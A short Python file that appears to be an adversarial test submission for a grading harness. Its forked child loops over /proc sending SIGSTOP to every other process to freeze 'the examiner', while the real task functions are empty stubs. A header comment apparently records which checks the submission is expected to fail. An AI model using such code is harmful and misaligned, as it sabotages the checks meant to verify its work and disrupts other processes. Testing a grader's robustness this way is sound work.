"""A child that sends SIGSTOP to the examiner again and again."""
# loses: check_bill_cents check_price_tag
# %% + first
import os, signal
if os.fork() == 0:
    while True:
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) not in (1, os.getpid()):
                try:
                    os.kill(int(name), signal.SIGSTOP)
                except OSError:
                    pass
# %% bill_cents
def bill_cents(plan, dishes):
    return 0
# %% price_tag
def price_tag(cents):
    return ""
